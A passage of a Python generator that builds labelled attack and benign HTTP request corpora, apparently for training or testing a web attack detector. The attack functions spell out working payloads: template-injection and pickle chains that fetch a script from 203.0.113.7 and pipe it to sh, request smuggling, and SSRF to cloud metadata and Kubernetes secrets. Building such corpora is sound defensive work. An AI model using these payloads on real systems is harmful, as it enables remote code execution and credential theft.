          "application/x-www-form-urlencoded")
    nd = H["node"]
    c.add("ejs-child-process", T, "POST", "/api/admin/reports/templates", nd, [bearer()],
          js({"name": "weekly", "engine": "ejs", "source": "<%= process.mainModule.require('child_process').execSync('id') %>"}), "application/json")
    c.add("nunjucks-range-constructor", T, "POST", "/api/admin/reports/templates", nd, [bearer()],
          js({"name": "weekly", "engine": "nunjucks",
              "source": "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"}), "application/json")
    c.add("handlebars-with-string", T, "POST", "/api/admin/reports/templates", nd, [bearer()],
          form([("engine", "handlebars"), ("source", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}"
                                                   "{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}"
                                                   "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")]),
          "application/x-www-form-urlencoded")
    c.add("pug-code-block", T, "POST", "/api/admin/reports/templates", nd, [bearer()],
          js({"name": "weekly", "engine": "pug",
              "source": "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('curl 203.0.113.7/p|sh')}()}"}),
          "application/json")
    c.add("polyglot-probe-query", T, "GET", "/api/search?query=" + q("${{<%[%'\"}}%\\.") + "&type=dash-db", H["grafana"], grafana_hdrs("/dashboards"))
    c.add("polyglot-arith-profile", T, "POST", "/realms/platform/account/", H["keycloak"],
          [bearer()], js({"username": "jdoe", "firstName": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}", "lastName": "Doe", "email": "jdoe@example.com"}),
          "application/json")


def atk_nosqli(c):
    N = "nosqli"
    nd = H["node"]
    c.add("login-ne-null", N, "POST", "/api/auth/login", nd, xhr(nd, "/login"), js({"username": "admin", "password": {"$ne": None}}), "application/json")
    c.add("login-form-bracket-ne", N, "POST", "/api/auth/login", nd, [], "username%5B%24ne%5D=x&password%5B%24ne%5D=x",
          "application/x-www-form-urlencoded", ua=UA_TOOLS["python"])
    c.add("filter-where-sleep", N, "GET", "/api/admin/users?filter=" + q('{"$where":"sleep(5000) || true"}'), nd, [bearer()], ua=UA_TOOLS["curl"])
    c.add("search-where-role", N, "POST", "/api/admin/users/search", nd, [bearer()],
          js({"$where": "this.role == 'admin' || '1'=='1'"}), "application/json", ua=UA_TOOLS["node"])
    c.add("login-regex-enum", N, "POST", "/api/auth/login", nd, [], "username=admin&password%5B%24regex%5D=%5Ea.%2A",
          "application/x-www-form-urlencoded", ua=UA_TOOLS["python"])
    c.add("reset-token-gt", N, "POST", "/api/auth/reset", nd, [], js({"email": "admin@example.com", "token": {"$gt": ""}, "password": "Winter2024!"}),
          "application/json", ua=UA_TOOLS["python"])
    c.add("aggregate-lookup-users", N, "POST", "/api/admin/reports/aggregate", nd, [bearer()],
          js({"collection": "audit", "pipeline": [{"$match": {}}, {"$lookup": {"from": "users", "localField": "actor", "foreignField": "_id", "as": "u"}},
                                                   {"$project": {"u.passwordHash": 1, "u.apiKeys": 1}}]}), "application/json")
    c.add("function-operator", N, "POST", "/api/admin/users/search", nd, [bearer()],
          js({"$expr": {"$function": {"body": "function() { sleep(3000); return true; }", "args": [], "lang": "js"}}}), "application/json")
    c.add("where-busy-loop", N, "GET", "/api/admin/tenants?q=" + q('{"$where":"function(){var d=new Date();do{var c=new Date();}while(c-d<5000);return true;}"}'),
          nd, [bearer()], ua=UA_TOOLS["curl"])
    c.add("query-id-ne", N, "GET", "/api/admin/sessions?userId[$ne]=1&limit=100", nd, [bearer()], ua=UA_TOOLS["node"])
    c.add("or-regex-admin", N, "POST", "/api/admin/users/search", nd, [bearer()],
          js({"email": {"$regex": ".*"}, "$or": [{"role": "admin"}, {"isSuperuser": True}]}), "application/json")
    c.add("couchdb-duplicate-roles", N, "PUT", "/_users/org.couchdb.user:oops", H["couch"], [],
          '{"type": "user", "name": "oops", "roles": ["_admin"], "roles": [], "password": "oops"}', "application/json", ua=UA_TOOLS["curl"])
    c.add("cookie-json-operator", N, "GET", "/api/me", nd, [["Cookie", "session_user=" + q('{"$gt":""}') + "; theme=dark"]], ua=ua_browser())


def atk_ldapi(c):
    L = "ldapi"
    c.add("keycloak-user-search-or", L, "GET", "/admin/realms/platform/users?briefRepresentation=true&first=0&max=20&search=*)(uid=*))(%7C(uid=*",
          H["keycloak"], [bearer()], ua=UA_TOOLS["keycloak-js"])
    c.add("harbor-ldap-user-search", L, "GET", "/api/v2.0/ldap/users/search?username=*)(%7C(objectClass=*", H["harbor"],
          xhr(H["harbor"], "/harbor/users", "sid=" + hexs(32)))
    c.add("grafana-ldap-login-and-true", L, "POST", "/login", H["grafana"], xhr(H["grafana"], "/login"),
          js({"user": "admin)(&)", "password": "anything"}), "application/json")
    c.add("jenkins-ldap-memberof", L, "POST", "/j_spring_security_check", H["jenkins"], nav("https://%s/login" % H["jenkins"]),
          form([("j_username", "*)(|(memberOf=cn=jenkins-admins,ou=groups,dc=example,dc=com)"), ("j_password", "x"), ("from", "/"), ("Submit", "")]),
          "application/x-www-form-urlencoded", accept=HTML_ACCEPT)
    c.add("gitea-ldap-userpassword", L, "POST", "/user/login", H["gitea"], nav("https://%s/user/login" % H["gitea"], "_csrf=" + alnum(28)),
          form([("_csrf", alnum(28)), ("user_name", "admin*)((|userPassword=*)"), ("password", "x")]), "application/x-www-form-urlencoded", accept=HTML_ACCEPT)
    c.add("go-directory-blind-description", L, "GET", "/v1/directory/users?cn=*)(description=*pass*", H["go"], [bearer()], ua=UA_TOOLS["curl"])
    c.add("go-directory-encoded-objectclass", L, "GET", "/v1/directory/groups?name=%2A%29%28%26%28objectClass%3D%2A", H["go"], [bearer()], ua=UA_TOOLS["python"])
    c.add("node-sso-nul-truncation", L, "POST", "/api/sso/ldap", H["node"], [], "username=admin)%00&password=x",
          "application/x-www-form-urlencoded", ua=UA_TOOLS["python"])
    c.add("keycloak-group-search", L, "GET", "/admin/realms/platform/groups?first=0&max=50&search=*)(objectClass=*", H["keycloak"], [bearer()],
          ua=UA_TOOLS["keycloak-js"])
    c.add("node-sso-json-mail-wildcard", L, "POST", "/api/sso/ldap", H["node"], [],
          js({"username": "*)(&(objectClass=person)(mail=*@example.com", "password": "*"}), "application/json", ua=UA_TOOLS["node"])
    c.add("authportal-firstfactor", L, "POST", "/api/firstfactor", "auth.example.com", xhr("auth.example.com", "/"),
          js({"username": "jdoe)(|(uid=*", "password": "*)(|(&", "keepMeLoggedIn": False, "targetURL": "https://grafana.ops.example.com/"}),
          "application/json")


def atk_crlf(c):
    C = "crlf"
    c.add("argocd-return-url-set-cookie", C, "GET",
          "/auth/login?return_url=https%3A%2F%2Fargocd.platform.example.com%2Fapplications%0d%0aSet-Cookie:%20argocd.token=attacker", H["argocd"],
          nav(), accept=HTML_ACCEPT)
    c.add("grafana-oauth-redirect-location", C, "GET", "/login/generic_oauth?redirect_to=%2F%0D%0ALocation%3A%20https%3A%2F%2Fevil.example.net%2F",
          H["grafana"], nav(), accept=HTML_ACCEPT)
    c.add("jenkins-commence-login-fixation", C, "GET", "/securityRealm/commenceLogin?from=%2F%0D%0ASet-Cookie%3A%20JSESSIONID%3Dfixated1234",
          H["jenkins"], nav(), accept=HTML_ACCEPT)
    c.add("keycloak-post-logout-header", C, "GET",
          "/realms/platform/protocol/openid-connect/logout?client_id=grafana&post_logout_redirect_uri=https%3A%2F%2Fgrafana.ops.example.com%2F%0d%0aX-Injected%3A%201",
          H["keycloak"], nav(), accept=HTML_ACCEPT)
    c.add("kibana-logout-next-lf", C, "GET", "/logout?next=%2Fapp%2Fhome%0ASet-Cookie%3Asid%3Dattacker%3B%20Path%3D%2F", H["kibana"], nav(), accept=HTML_ACCEPT)
    c.add("go-redirect-unicode-crlf", C, "GET", "/redirect?url=%E5%98%8A%E5%98%8DSet-Cookie:%20session=attacker", H["go"], [], ua=UA_TOOLS["curl"],
          accept=HTML_ACCEPT)
    c.add("go-redirect-response-splitting", C, "GET",
          "/redirect?url=%2F%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0aContent-Length:%2035%0d%0a%0d%0a%3Cscript%3Ealert(document.domain)%3C/script%3E",
          H["go"], [], ua=UA_TOOLS["python"], accept=HTML_ACCEPT)
    c.add("gitea-redirect-hash-crlf", C, "GET", "/user/login?redirect_to=%2F%23%0d%0aLocation%3A%20%2F%2Fevil.example.net", H["gitea"], nav(),
          accept=HTML_ACCEPT)
    c.add("node-login-log-forging", C, "POST", "/api/auth/login", H["node"], [],
          js({"username": "jdoe\r\n2024-06-03T07:33:20Z INFO auth user=admin action=login result=success src=10.0.0.5", "password": "x"}),
          "application/json", ua=UA_TOOLS["python"])
    c.add("spring-lang-double-encoded", C, "GET", "/api/v1/orders?lang=en%250d%250aSet-Cookie%3A%2520JSESSIONID%3Dabc", H["spring"], [], ua=UA_TOOLS["curl"])
    c.add("harbor-oidc-redirect-url", C, "GET", "/c/oidc/login?redirect_url=%2Fharbor%2Fprojects%0d%0aX-Forwarded-User%3A%20admin", H["harbor"], nav(),
          accept=HTML_ACCEPT)


def atk_protocol(c):
    P = "protocol"
    ing = H["ingress"]
    c.raw("smuggle-cl-te", P,
          "POST /api/v1/health HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/x-www-form-urlencoded\r\n"
          "Content-Length: 72\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /actuator/env HTTP/1.1\r\nHost: %s\r\nX-Foo: x" % (ing, UA_TOOLS["python"], H["spring"]))
    smuggled = "GET /api/v1/namespaces/kube-system/secrets HTTP/1.1\r\nHost: kubernetes.default.svc\r\nContent-Length: 10\r\n\r\nx="
    chunk = "%x\r\n%s\r\n0\r\n\r\n" % (len(smuggled), smuggled)
    c.raw("smuggle-te-cl", P,
          "POST /grafana/api/health HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/x-www-form-urlencoded\r\n"
          "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n%s" % (ing, UA_TOOLS["curl"], chunk))
    c.raw("smuggle-te-xchunked", P,
          "POST / HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Length: 4\r\nTransfer-Encoding: xchunked\r\n\r\n5c\r\nGPOST / HTTP/1.1\r\n"
          "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n" % (ing, ua_browser()))
    c.raw("smuggle-te-space-before-colon", P,
          "POST /jenkins/login HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Length: 46\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n"
          "GET /jenkins/script HTTP/1.1\r\nX-Ignore: x" % (ing, UA_TOOLS["python"]))
    c.raw("smuggle-duplicate-content-length", P,
          "POST /api/v1/query HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/x-www-form-urlencoded\r\n"
          "Content-Length: 8\r\nContent-Length: 51\r\n\r\nquery=upGET /-/quit HTTP/1.1\r\nHost: prometheus\r\nX: " % (H["prom"], UA_TOOLS["go"]))
    c.raw("smuggle-te-double-header", P,
          "POST /api/ds/query HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/json\r\nContent-Length: 4\r\n"
          "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n30\r\nGET /api/admin/users HTTP/1.1\r\nHost: grafana\r\n\r\n0\r\n\r\n"
          % (H["grafana"], UA_TOOLS["curl"]))
    c.raw("smuggle-te-tab-obfuscation", P,
          "POST /v1/sys/health HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Length: 40\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n"
          "GET /v1/sys/raw/core HTTP/1.1\r\nX: y" % (H["vault"], UA_TOOLS["python"]))
    c.raw("smuggle-cl0-healthz", P,
          "POST /healthz HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nConnection: keep-alive\r\nContent-Type: text/plain\r\nContent-Length: 37\r\n\r\n"
          "GET /debug/pprof/cmdline HTTP/1.1\r\n\r\n" % (H["go"], UA_TOOLS["go"]))
    c.add("h2c-upgrade-smuggling", P, "GET", "/", ing,
          [["Upgrade", "h2c"], ["HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"], ["Connection", "Upgrade, HTTP2-Settings"]], ua=UA_TOOLS["go"], accept="*/*")
    c.add("k8s-aggregated-upgrade-escalation", P, "GET", "/apis/metrics.k8s.io/v1beta1/namespaces/kube-system/pods/x/exec?command=id",
          H["k8s"], [["Connection", "Upgrade"], ["Upgrade", "websocket"], ["Sec-WebSocket-Version", "13"], ["Sec-WebSocket-Key", "x3JJHMbDL1EzLkh9GBhXDw=="],
                     ["X-Remote-User", "system:admin"], ["X-Remote-Group", "system:masters"]], ua=UA_TOOLS["python"])
    c.add("x-original-url-bypass", P, "GET", "/healthz", H["spring"], [["X-Original-URL", "/actuator/env"], ["X-Rewrite-URL", "/actuator/env"]],
          ua=UA_TOOLS["curl"])
    c.add("keycloak-reset-host-poisoning", P, "POST", "/realms/platform/login-actions/reset-credentials?client_id=account-console&tab_id=" + alnum(11),
          H["keycloak"], [["X-Forwarded-Host", "203.0.113.7"], ["X-Forwarded-Proto", "http"]],
          form([("username", "admin@example.com")]), "application/x-www-form-urlencoded", ua=ua_browser(), accept=HTML_ACCEPT)
    c.add("hop-by-hop-strip-auth-header", P, "GET", "/admin/config", H["envoy"],
          [["Connection", "close, X-Forwarded-For, X-Real-IP, Authorization"], ["X-Forwarded-For", "127.0.0.1"]], ua=UA_TOOLS["curl"])
    c.add("trace-method-xst", P, "TRACE", "/", H["jenkins"], [["Cookie", "JSESSIONID.%s=node0%s.node0" % (hexs(8), alnum(20).lower())],
                                                            ["Max-Forwards", "0"]], ua=UA_TOOLS["curl"], accept="*/*")
    c.add("absolute-form-proxy-imds", P, "GET", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", ing, [], ua=UA_TOOLS["curl"], accept="*/*")
    c.add("connect-kubelet", P, "CONNECT", "127.0.0.1:10250", "127.0.0.1:10250", [["Proxy-Connection", "Keep-Alive"]], ua=UA_TOOLS["curl"], accept="*/*")
    c.add("range-overlap-dos", P, "GET", "/public/build/app.js", H["grafana"],
          [["Range", "bytes=" + ",".join("%d-" % i for i in range(0, 300, 5))]], ua=UA_TOOLS["python"], accept="*/*")


def atk_scanner(c):
    S = "scanner"
    nuclei = "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"
    c.add("nuclei-jolokia-list", S, "GET", "/jolokia/list", H["spring"], [], ua=nuclei, accept="*/*")
    c.add("nuclei-grafana-default-login", S, "POST", "/login", H["grafana"], [], js({"user": "admin", "password": "admin"}), "application/json", ua=nuclei)
    c.add("kube-hunter-kubelet-pods", S, "GET", "/pods", H["kubelet"], [], ua=UA_TOOLS["python"], accept="*/*")
    c.add("kube-hunter-runningpods", S, "GET", "/runningpods/", H["kubelet"], [], ua=UA_TOOLS["python"], accept="*/*")
    c.add("kube-hunter-etcd-keys-dump", S, "GET", "/v2/keys/?recursive=true", "203.0.113.40:2379", [], ua=UA_TOOLS["python"], accept="*/*")
    c.add("nikto-cgi-probe", S, "GET", "/cgi-bin/test-cgi", H["ingress"], [], ua="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000431)", accept="*/*")
    c.add("sqlmap-ua-param", S, "GET", "/api/v1/orders?id=1&status=open", H["spring"], [], ua="sqlmap/1.8.4#stable (https://sqlmap.org)", accept="*/*")
    c.add("gobuster-git-head", S, "GET", "/.git/HEAD", H["argocd"], [], ua="gobuster/3.6", accept="*/*")
    c.add("ffuf-heapdump", S, "GET", "/actuator/heapdump", H["spring"], [], ua="Fuzz Faster U Fool v2.1.0-dev", accept="*/*")
    c.add("feroxbuster-kubeconfig", S, "GET", "/.kube/config", H["dash"], [], ua="feroxbuster/2.10.3", accept="*/*")
    c.add("masscan-root", S, "GET", "/", "203.0.113.41:8500", [], ua="masscan/1.3 (https://github.com/robertdavidgraham/masscan)", accept="*/*")
    c.add("zgrab-root", S, "GET", "/", "203.0.113.42:10250", [], ua="Mozilla/5.0 zgrab/0.x", accept="*/*")
    c.add("nmap-nice-ports", S, "GET", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", H["ingress"], [],
          ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", accept="*/*")
    c.add("acunetix-probe", S, "GET", "/acunetix-wvs-test-for-some-inexistent-file", H["jenkins"],
          [["Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)"],
           ["Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"], ["Acunetix-User-agreement", "http://www.acunetix.com/wvs/disc.htm"]],
          ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.132 Safari/537.36", accept="*/*")
    c.add("openvas-probe", S, "GET", "/v1/sys/seal-status", H["vault"], [], ua="Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)", accept="*/*")
    c.add("wfuzz-env-file", S, "GET", "/.env", H["node"], [], ua="Wfuzz/3.1.0", accept="*/*")
    c.add("probe-aws-credentials", S, "GET", "/.aws/credentials", H["go"], [], ua=UA_TOOLS["go"], accept="*/*")
    c.add("probe-pprof-goroutine", S, "GET", "/debug/pprof/goroutine?debug=2", H["go"], [], ua=UA_TOOLS["python"], accept="*/*")
    c.add("probe-anonymous-secrets-list", S, "GET", "/api/v1/secrets?limit=500", H["k8s"], [], ua=UA_TOOLS["curl"])
    c.add("wpscan-login-probe", S, "GET", "/wp-login.php", H["ingress"], [], ua="WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", accept="*/*")


def python_pickle_b64():
    # protocol-2 pickle of  os.system("curl ...|sh")  built by hand (no pickle import needed)
    cmd = b"curl -s http://203.0.113.7/p | sh"
    data = b"\x80\x02cposix\nsystem\nq\x00X" + len(cmd).to_bytes(4, "little") + cmd + b"q\x01\x85q\x02Rq\x03."
    return b64(data)


def atk_generic(c):
    G = "generic"
    nd = H["node"]
    c.add("proto-pollution-isadmin", G, "PATCH", "/api/admin/users/me/preferences", nd, [bearer()],
          '{"theme":"dark","__proto__":{"isAdmin":true,"role":"superuser"}}', "application/json")
    c.add("proto-pollution-node-options-gadget", G, "POST", "/api/admin/settings/merge", nd, [bearer()],
          js({"constructor": {"prototype": {"shell": "/proc/self/exe", "argv0": "console.log(require('child_process').execSync('id').toString())//",
                                            "NODE_OPTIONS": "--require /proc/self/cmdline"}}}), "application/json")
    c.add("proto-pollution-query-brackets", G, "GET", "/api/admin/search?q=pods&__proto__[polluted]=yes&__proto__[status]=510", nd, [bearer()], ua=ua_browser())
    c.add("proto-pollution-constructor-query", G, "GET", "/api/admin/flags?constructor[prototype][isAdmin]=true", nd, [bearer()], ua=UA_TOOLS["curl"])
    c.add("proto-pollution-ejs-outputfunction", G, "POST", "/api/admin/reports/options", nd, [bearer()],
          '{"layout":{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'curl 203.0.113.7/e|sh\');s"}}}',
          "application/json")
    c.add("proto-pollution-dotted-path", G, "POST", "/api/admin/config/set", nd, [bearer()],
          js({"path": "__proto__.allowedHosts", "value": ["*"]}), "application/json", ua=UA_TOOLS["node"])
    c.add("webhook-ssrf-gitlab-redis", G, "POST", "/api/v4/projects/12/hooks", H["gitlab"], [["PRIVATE-TOKEN", "glpat-" + alnum(20)]],
          js({"url": "http://127.0.0.1:6379/", "push_events": True, "enable_ssl_verification": False}), "application/json", ua=UA_TOOLS["python"])
    c.add("webhook-ssrf-gitea-imds", G, "POST", "/api/v1/repos/platform/infra/hooks", H["gitea"], [["Authorization", "token " + hexs(40)]],
          js({"type": "gitea", "active": True, "events": ["push"],
              "config": {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "content_type": "json"}}),
          "application/json", ua=UA_TOOLS["go"])
    c.add("webhook-ssrf-harbor-mapped", G, "POST", "/api/v2.0/projects/3/webhook/policies", H["harbor"], xhr(H["harbor"], "/harbor/projects/3/webhook", "sid=" + hexs(32)),
          js({"name": "notify", "enabled": True, "event_types": ["PUSH_ARTIFACT"],
              "targets": [{"type": "http", "address": "http://[::ffff:169.254.169.254]/latest/meta-data/", "skip_cert_verify": True}]}),
          "application/json")
    c.add("webhook-ssrf-kibana-connector", G, "POST", "/api/actions/connector", H["kibana"], kibana_hdrs("/app/management/insightsAndAlerting/triggersActionsConnectors"),
          js({"name": "ops", "connector_type_id": ".webhook",
              "config": {"url": "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "method": "get", "hasAuth": False}}),
          "application/json")
    c.add("webhook-ssrf-argocd-notifications", G, "PATCH", "/api/v1/namespaces/argocd/configmaps/argocd-notifications-cm", H["k8s"], [k8s_hdr()],
          js({"data": {"service.webhook.audit": "url: http://vault.vault.svc.cluster.local:8200/v1/sys/raw/core\nheaders:\n- name: X-Vault-Request\n  value: \"true\"\n"}}),
          "application/merge-patch+json", ua=UA_TOOLS["kubectl"])
    c.add("jwt-alg-none", G, "GET", "/api/admin/users", nd,
          [["Authorization", "Bearer " + b64u('{"alg":"none","typ":"JWT"}') + "." + b64u('{"sub":"admin","role":"admin","exp":1893456000}') + "."]],
          ua=UA_TOOLS["python"])
    c.add("python-pickle-cookie", G, "GET", "/api/v1/dashboard", H["notify"], [["Cookie", "session=" + python_pickle_b64()]], ua=ua_browser())
    c.add("graphql-alias-bruteforce", G, "POST", "/graphql", nd, [],
          js({"query": "mutation {" + " ".join('a%d: login(username: "admin", password: "%s") { token }' % (i, p) for i, p in enumerate(
              ["admin", "password", "123456", "admin123", "changeme", "Passw0rd!", "letmein", "welcome1", "qwerty", "Summer2024", "grafana", "kubernetes"])) + " }"}),
          "application/json", ua=UA_TOOLS["python"])
    c.add("tomcat-semicolon-traversal", G, "GET", "/api/v1/..;/actuator/env", H["spring"], [], ua=UA_TOOLS["curl"])
    c.add("envoy-encoded-slash-admin", G, "GET", "/healthz/..%2F..%2Fadmin%2Fconfig_dump", H["envoy"], [], ua=UA_TOOLS["curl"])


def build_attacks():
    c = Corpus("attacks")
    atk_sqli(c)
    atk_xss(c)
    atk_lfi(c)
    atk_rfi(c)
    atk_rce(c)
    atk_php(c)
    atk_java(c)
    atk_ssrf(c)
    atk_xxe(c)
    atk_ssti(c)
    atk_nosqli(c)
    atk_ldapi(c)
    atk_crlf(c)
    atk_protocol(c)
    atk_scanner(c)
    atk_generic(c)
    return c


# --------------------------------------------------------------------------------------
# benign
# --------------------------------------------------------------------------------------

PROMQL = [
    'sum by (namespace) (rate(container_cpu_usage_seconds_total{container!="", namespace=~"payments|checkout"}[5m]))',
    'histogram_quantile(0.99, sum by (le, route) (rate(http_server_request_duration_seconds_bucket{job="api-gateway", route!~"/healthz|/metrics"}[5m])))',
    'kube_pod_container_status_restarts_total{namespace="kube-system"} > 3',
    '100 * (1 - avg by (instance) (rate(node_cpu_seconds_total{mode="idle"}[2m])))',
    'label_replace(up{job=~"kubernetes-.*"}, "cluster", "$1", "instance", "(.*):.*")',
    'topk(10, sum by (pod) (container_memory_working_set_bytes{namespace="data", container!~"POD|"}))',
    'predict_linear(node_filesystem_avail_bytes{fstype!~"tmpfs|overlay"}[6h], 4 * 3600) < 0',
    'absent(up{job="alertmanager"} == 1)',
    'sum(rate(grpc_server_handled_total{grpc_code!="OK", grpc_service=~"billing.v1.*"}[5m])) / sum(rate(grpc_server_handled_total{grpc_service=~"billing.v1.*"}[5m]))',
    'increase(argocd_app_sync_total{phase!="Succeeded"}[1h])',
    'max_over_time(vault_core_unsealed[5m]) == 0',
    'avg_over_time(probe_success{instance=~"https://.*\\\\.example\\\\.com/.*"}[1h])',
    'sum by (envoy_cluster_name) (rate(envoy_cluster_upstream_rq_xx{envoy_response_code_class="5"}[5m]))',
    '(sum by (ingress) (rate(nginx_ingress_controller_requests{status=~"5.."}[5m])) / sum by (ingress) (rate(nginx_ingress_controller_requests[5m]))) * 100 > 1',
    'sum without (instance) (rate(keycloak_logins_total{realm="platform"}[10m]))',
    'kube_node_status_condition{condition="Ready", status="true"} == 0',
    'irate(container_network_receive_bytes_total{pod=~"ingress-nginx-controller-.*"}[1m])',
    'time() - kube_job_status_completion_time{job_name=~"backup-.*"} > 86400',
    '1 - (sum(rate(http_requests_total{code=~"5.."}[30d])) / sum(rate(http_requests_total[30d])))',
    'kube_pod_info * on (pod, namespace) group_left (owner_name) kube_pod_owner{owner_kind="ReplicaSet"}',
    'sum(kube_deployment_status_replicas_available{namespace=~"$namespace", deployment=~"$deployment"})',
    'rate(jenkins_builds_failed_build_count_total[30m]) > 0',
    'count by (git_version) (kubernetes_build_info{job="apiserver"})',
    'sum by (code) (rate(apiserver_request_total{verb=~"LIST|WATCH", resource="pods"}[5m]))',
    'quantile_over_time(0.95, harbor_core_http_request_duration_seconds{quantile="0.99"}[1h])',
    'sort_desc(sum by (namespace) (kube_resourcequota{type="used", resource="requests.memory"}))',
]

LOGQL = [
    '{namespace="payments", app=~"api|worker"} |= "error" != "timeout"',
    'sum by (level) (count_over_time({cluster="eu-1", namespace="checkout"} | json | level=~"error|warn" [5m]))',
    'rate({app="keycloak"} |~ "(?i)login_error|invalid_user_credentials" [10m])',
    '{container="argocd-application-controller"} | logfmt | msg="Sync operation completed" | app=~"prod-.*"',
    'topk(5, sum by (path) (rate({app="api-gateway"} | json | status_code >= 500 [15m])))',
    '{namespace="kube-system", pod=~"coredns-.*"} |= "SERVFAIL"',
    '{job="vault/vault"} | json | type="response" | request_path=~"secret/data/.*" | error!=""',
]

LUCENE = [
    'kubernetes.labels.app:"checkout" AND level:ERROR AND NOT message:"connection reset"',
    'status:[500 TO 599] AND request_path:\\/api\\/v1\\/orders*',
    'user.name:(jdoe OR mmueller) AND event.action:"user-login"',
    'message:timout~1 AND service:billing',
    'kubernetes.namespace:prod* AND _exists_:error.stack_trace',
    'http.request.method:POST AND url.path:"/api/ds/query" AND http.response.status_code:>=400',
]

KQL = [
    'kubernetes.namespace : "payments" and log.level : (error or critical) and not message : "health check"',
    'http.response.status_code >= 500 and url.path : /api/v1/orders*',
    'event.dataset : "nginx.access" and source.geo.country_iso_code : ("DE" or "FR" or "PL")',
    'host.name : web-* and process.name : "java" and not user.name : "jenkins"',
    'kubernetes.pod.name : "argocd-repo-server-*" and message : "rpc error"',
    'event.outcome : "failure" and event.category : "authentication" and source.ip : 203.0.113.0/24',
]

COMMITS = [
    "fix(api): handle nil pointer when tenant has no quota",
    "feat: add retry with exponential backoff to webhook sender",
    "chore(deps): bump golang.org/x/net from 0.22.0 to 0.23.0",
    "docs: update runbook for Vault unseal procedure",
    "Korrigiere Zeitzonenberechnung im Monatsbericht",
    "Ajout de la pagination sur la liste des factures",
    "Corrige el cálculo del IVA en pedidos internacionales",
    "ダッシュボードの凡例を修正",
    "修复订单导出时的编码问题",
    "Popraw walidację numeru NIP w formularzu",
    "Исправлена ошибка при загрузке больших файлов",
    "Merge branch 'release/2024.06' into 'main'",
    "Revert \"feat: enable HPA for worker\"\n\nThis reverts commit 3f2a9c1e.",
    "ci: cache node modules between jobs",
    "refactor: extract PromQL builder into its own package",
    "fix: escape label values in alert titles (#482)",
    "perf(db): add index on orders created_at and tenant_id",
    "Atualiza README com instruções de deploy",
    "Verbeter foutmelding bij verlopen token",
    "feat(helm): make resources configurable per environment\n\nCloses #311. Reviewed-by: Siobhán O'Brien",
]

PEOPLE = [
    ("Jürgen", "Müller", "jmueller"), ("Zoë", "Dubois", "zdubois"), ("José", "Álvarez", "jalvarez"),
    ("Łukasz", "Wiśniewski", "lwisniewski"), ("太郎", "山田", "tyamada"), ("Søren", "Østergaard", "sostergaard"),
    ("Αλέξανδρος", "Παπαδόπουλος", "apapadopoulos"), ("Ngozi", "Okafor", "nokafor"), ("Priya", "Raman", "praman"),
    ("Siobhán", "O'Brien", "sobrien"), ("Marco", "D'Angelo", "mdangelo"), ("Ана", "Петрова", "apetrova"),
    ("Minh", "Nguyễn", "mnguyen"), ("Fatma", "Yılmaz", "fyilmaz"), ("Anna-Lena", "Schröder", "aschroeder"),
]

ANNOTATIONS = [
    "Deployed payments v2.14.3 (canary 10%)",
    "Wartungsfenster: Datenbank-Failover auf db-2, geplant 20 Minuten",
    "Incident INC-4821 : élévation de la latence sur l'API de facturation",
    "Rollback to 1.9.2 after 5xx spike – see #ops-incidents",
    "Node pool upgrade 1.28 → 1.29 gestartet",
    "Mantenimiento programado del clúster de Elasticsearch",
    "証明書の更新 (cert-manager) 完了",
    "Load test 3x baseline traffic, results in https://wiki.example.com/display/OPS/Load+Test+2024-06",
]

NAMESPACES = ["payments", "checkout", "data", "kube-system", "monitoring", "argocd", "ingress-nginx", "identity", "ci", "search"]


def prom_target(expr, ref="A", legend="__auto"):
    return {"refId": ref, "datasource": {"type": "prometheus", "uid": "prometheus"}, "expr": expr, "range": True,
            "instant": False, "editorMode": RNG.choice(["code", "builder"]), "legendFormat": legend, "interval": "",
            "exemplar": False, "requestId": "%d%s" % (RNG.randrange(1, 40), ref), "utcOffsetSec": RNG.choice([0, 3600, 7200, 32400, -14400]),
            "datasourceId": 1, "intervalMs": RNG.choice([15000, 30000, 60000]), "maxDataPoints": RNG.choice([964, 1130, 1624])}


def time_range(hours=6):
    end = EPOCH * 1000 - RNG.randrange(0, 600000)
